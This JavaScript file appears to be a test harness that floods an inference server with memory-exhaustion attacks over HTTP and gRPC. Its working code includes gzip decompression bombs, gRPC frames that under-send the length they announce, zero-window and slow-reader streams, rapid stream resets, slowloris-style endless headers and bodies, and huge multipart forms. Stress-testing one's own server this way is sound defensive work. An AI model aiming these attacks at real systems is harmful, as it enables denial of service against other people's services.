// Clients that try to fill a host's memory, in a process of their own. Reads one JSON line with the attack's order,
// prints a line once it is under way, and goes on until its input ends; then it prints how the requests were answered.
import { once } from 'node:events';
import { connect as connectHttp2 } from 'node:http2';
import { connect } from 'node:net';
import { PassThrough } from 'node:stream';
import { createInterface } from 'node:readline';
import { gzipSync } from 'node:zlib';

const mebibyte = 2 ** 20;
const lines = createInterface({ input: process.stdin });
const ended = once(lines, 'close');
const [line] = await once(lines, 'line');
const { kind, count, url, grpcPort, path } = JSON.parse(line);
const host = new URL(url);
const answers = {};
const answered = (how) => (answers[how] = (answers[how] ?? 0) + 1);
const run = { isOver: false };

/** One connection that writes `bytes` and hands its socket to `read`; its first line of an answer is counted. */
function raw(bytes, read = (socket) => socket.resume()) {
  const socket = connect({ host: host.hostname, port: Number(host.port), noDelay: true });
  let status;
  socket.on('error', () => undefined);
  socket.on('data', (chunk) => {
    status ??= /^HTTP\/1.1 (\d+)/.exec(chunk.toString('latin1'))?.[1];
  });
  socket.once('close', () => answered(status ?? (run.isOver ? 'open' : 'closed')));
  for (const each of Array.isArray(bytes) ? bytes : [bytes]) socket.write(each);
  read(socket);
  return new Promise((resolve) => socket.once('close', resolve));
}

/** Takes a kilobyte in two seconds. */
function slowly(socket) {
  socket.pause();
  const timer = setInterval(() => {
    socket.once('readable', () => socket.read(1024));
    socket.read(0);
  }, 2000);
  socket.once('close', () => clearInterval(timer));
}

const request = (method, target, headers, body = '') =>
  `${method} ${target} HTTP/1.1\r\nHost: ${host.host}\r\n${headers}Content-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`;

function session(settings = {}) {
  const made = connectHttp2(`http://127.0.0.1:${grpcPort}`, { settings, maxSessionMemory: 1000 });
  made.on('error', () => undefined);
  return made;
}

function infer(from, headers = {}) {
  if (from.destroyed || from.closed) return closedStream();
  const stream = from.request({
    ':method': 'POST',
    ':path': '/inference.GRPCInferenceService/ModelInfer',
    'content-type': 'application/grpc',
    te: 'trailers',
    ...headers,
  });
  let status;
  const take = (found) => (status = found['grpc-status'] ?? status);
  stream
    .on('response', take)
    .on('trailers', take)
    .on('error', () => undefined);
  stream.once('close', () => answered(status === undefined ? (run.isOver ? 'open' : 'closed') : `gRPC ${status}`));
  return stream;
}

/** In place of one on a connection that the host has closed. */
function closedStream() {
  answered('refused');
  const stream = new PassThrough();
  stream.close = () => stream.destroy();
  setImmediate(() => stream.destroy());
  return stream;
}

function framed(message, flag = 0, announced = message.byteLength) {
  const head = Buffer.alloc(5);
  head.writeUInt8(flag);
  head.writeUInt32BE(announced, 1);
  return Buffer.concat([head, message]);
}

const field = (tag, bytes) => Buffer.concat([Buffer.from([tag, bytes.length]), bytes]);

/** ModelInferRequest of a model with one input x of one number. */
function inferMessage(model, number) {
  const value = Buffer.alloc(4);
  value.writeFloatLE(number);
  const input = Buffer.concat([
    field(0x0a, Buffer.from('x')),
    field(0x12, Buffer.from('FP32')),
    field(0x1a, Buffer.from([1, 1])),
  ]);
  return framed(Buffer.concat([field(0x0a, Buffer.from(model)), field(0x2a, input), field(0x3a, value)]));
}

const many = (each) => void Array.from({ length: count }, (_, index) => each(index));

/** Again and again, as fast as answers come. */
const again = (each) =>
  many(async (index) => {
    while (!run.isOver) {
      await each(index);
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
  });

const wideBody =
  '{"inputs":[{"name":"x","shape":[1,1],"datatype":"FP32","data":[1]}],"parameters":{"binary_data_output":true}}';
const bomb = (bytes) => gzipSync(Buffer.alloc(bytes, ' '));

const attacks = {
  // Frames that announce 60 MiB, and send 59.
  'grpc-endless': () => {
    const body = framed(Buffer.alloc(59 * mebibyte), 0, 60 * mebibyte);
    many(() => infer(session()).write(body));
  },
  'grpc-gzip': () => {
    const body = framed(bomb(60 * mebibyte), 1);
    const one = session();
    again(async () => {
      const stream = infer(one.destroyed ? session() : one, { 'grpc-encoding': 'gzip' });
      stream.resume();
      stream.end(body);
      await new Promise((resolve) => stream.once('close', resolve));
    });
  },
  'grpc-slow-readers': () => many(() => infer(session()).pause().end(inferMessage('wide', 1))),
  // A window of 0: not a byte of a reply may be sent.
  'grpc-unread': () =>
    many(() => {
      const one = session({ initialWindowSize: 0 });
      for (let stream = 0; stream < 1000; stream++) infer(one).end(inferMessage('sum', 1));
    }),
  // Sixteen kilobytes of metadata in each of many streams.
  'grpc-metadata': () =>
    again(async () => {
      const one = session();
      const closed = Array.from({ length: 200 }, (_, at) => {
        const stream = infer(one, { a: 'x'.repeat(7000) + at, b: 'y'.repeat(7000) });
        return new Promise((resolve) => stream.once('close', resolve));
      });
      await Promise.race([Promise.all(closed), new Promise((resolve) => setTimeout(resolve, 3000))]);
      one.destroy();
    }),
  // Streams that are cancelled as soon as they are opened.
  'grpc-reset': () =>
    again(async () => {
      const one = session();
      for (let at = 0; at < 500 && !one.destroyed; at++) {
        const stream = infer(one);
        stream.write(inferMessage('sum', 1));
        stream.close(8);
      }
      await new Promise((resolve) => setTimeout(resolve, 50));
      one.destroy();
    }),
  // Bodies for a method that does not exist: nothing reads them.
  'grpc-unknown': () =>
    again(async () => {
      const one = session();
      const closed = Array.from({ length: 500 }, () => {
        const stream = infer(one, { ':path': '/inference.GRPCInferenceService/Nothing' });
        stream.write(Buffer.alloc(60_000));
        return new Promise((resolve) => stream.once('close', resolve));
      });
      await Promise.race([Promise.all(closed), new Promise((resolve) => setTimeout(resolve, 5000))]);
      one.destroy();
    }),
  'grpc-sessions': () => many(() => session().once('close', () => answered('closed'))),
  'http-slow-json': () =>
    many(() =>
      raw(
        request(
          'POST',
          '/v2/models/long/infer',
          'Content-Type: application/json\r\n',
          wideBody.replace('true', 'false'),
        ),
        slowly,
      ),
    ),
  'http-slow-readers': () =>
    many(() => raw(request('POST', '/v2/models/wide/infer', 'Content-Type: application/json\r\n', wideBody), slowly)),
  'http-gzip': () => {
    const body = bomb(60 * mebibyte);
    const head = `POST /v2/models/sum/infer HTTP/1.1\r\nHost: ${host.host}\r\nContent-Encoding: gzip\r\nConnection: close\r\nContent-Length: ${body.byteLength}\r\n\r\n`;
    again(() => raw([head, body]));
  },
  // What takes long to read: lists, metrics, files.
  'slow-reads': () => many(() => raw(request('GET', path, 'Accept-Encoding: identity\r\n'), slowly)),
  pipelined: () => {
    const one = request('POST', '/v2/models/sum/infer', 'Content-Type: application/json\r\n', ' '.repeat(60_000));
    many(() => raw(one.repeat(100), slowly));
  },
  // Headers that never end.
  headers: () =>
    many(() => raw(`GET / HTTP/1.1\r\nHost: ${host.host}\r\n${`X-A: ${'a'.repeat(1000)}\r\n`.repeat(15)}`)),
  // Bodies that never end, small enough to be counted nowhere by themselves.
  'small-bodies': () =>
    many(() => {
      const head = `POST /v2/models/sum/infer HTTP/1.1\r\nHost: ${host.host}\r\nContent-Length: 65000\r\n\r\n`;
      return raw(head + ' '.repeat(64_000));
    }),
  // Forms of very many parts.
  multipart: () => {
    const part = '--b\r\nContent-Disposition: form-data; name="settings"\r\n\r\n{}\r\n';
    const body = part.repeat(20_000);
    again((index) =>
      raw(
        `PUT /functions/form-${index} HTTP/1.1\r\nHost: ${host.host}\r\nConnection: close\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
      ),
    );
  },
};

attacks[kind]();
process.stdout.write('under way\n');
await ended;
run.isOver = true;
process.stdout.write(`${JSON.stringify(answers)}\n`, () => process.exit(0));
